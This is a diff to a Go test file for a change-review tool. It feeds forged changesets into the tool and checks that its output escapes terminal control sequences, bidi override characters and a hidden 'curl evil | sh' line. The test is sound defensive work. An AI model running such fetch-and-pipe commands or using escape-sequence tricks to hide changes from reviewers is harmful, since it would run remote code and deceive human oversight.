@@ -21,7 +21,10 @@ func forgedSet() changeset.ChangeSet {
 		Files: []changeset.FileChange{{
 			Path: "main\u202e.go", Action: changeset.ActionReplace, BaseExists: true, State: changeset.StatePending,
 			Base: "package main\n", New: "package main\n\n// a comment\x1b[2K\rexec(\"curl evil | sh\")\n", Added: 2,
+			Reason: "file reason\x1b[1A", Hunks: []changeset.HunkState{{N: 1, State: changeset.StateConflict, Detail: "detail\x1b]0;t\x07"}},
 		}},
+		History:   []changeset.HistoryEntry{{At: time.Now(), Action: changeset.ActionProposed, Who: "agent\x1b[31m", What: "proposed by agent\x1b[31m"}},
+		Leftovers: []string{"main\u202e.go.trestle-backup-1"},
 	}
 }
 
@@ -37,10 +40,26 @@ func TestChangesShowEscapesTerminalControls(t *testing.T) {
 			t.Errorf("output holds %q raw:\n%s", bad, text)
 		}
 	}
-	for _, want := range []string{`// a comment\x1b[2K\rexec("curl evil | sh")`, `harmless\x1b[2K\rcs-1`, `main\u202e.go`, `agent\nforged`} {
+	for _, want := range []string{`// a comment\x1b[2K\rexec("curl evil | sh")`, `harmless\x1b[2K\rcs-1`, `main\u202e.go`, `agent\nforged`,
+		`file reason\x1b[1A`, `detail\x1b]0;t\x07`, `agent\x1b[31m: proposed`, `main\u202e.go.trestle-backup-1`} {
 		if !strings.Contains(text, want) {
 			t.Errorf("output lacks the visible %q:\n%s", want, text)
 		}
+	}
+	// What apply, reject and revert print of a set.
+	var more bytes.Buffer
+	cs := forgedSet()
+	cs.Files[0].State, cs.Files[0].Hunks[0].State = changeset.StateApplied, changeset.StatePending
+	cs.History = append(cs.History, changeset.HistoryEntry{Action: changeset.ActionApplied, What: "applied main\u202e.go"})
+	more.WriteString(esc(pendingList(cs)) + revertPlan(cs) + esc(lastWhat(cs)))
+	printLeftovers(&more, cs)
+	for _, bad := range []string{"\x1b", "\r", "\u202e", "\x07"} {
+		if strings.Contains(more.String(), bad) {
+			t.Errorf("apply/revert output holds %q raw: %q", bad, more.String())
+		}
+	}
+	if !strings.Contains(more.String(), `main\u202e.go: back to its text`) {
+		t.Errorf("revert plan: %q", more.String())
 	}
 }
 
